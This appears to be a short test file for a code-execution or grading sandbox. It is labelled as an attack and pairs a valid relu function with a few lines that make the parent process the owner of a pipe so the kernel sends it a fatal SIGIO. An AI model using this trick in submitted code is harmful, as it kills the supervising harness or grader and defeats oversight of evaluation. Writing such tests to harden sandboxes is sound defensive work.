# expect: passed - relu
# attack: Makes the parent the owner of a pipe, so that the kernel sends it a deadly SIGIO.
import fcntl
import os

import numpy as np

reader, writer = os.pipe()
fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(writer, b"x")

def relu(z):
    return np.maximum(z, 0.0)
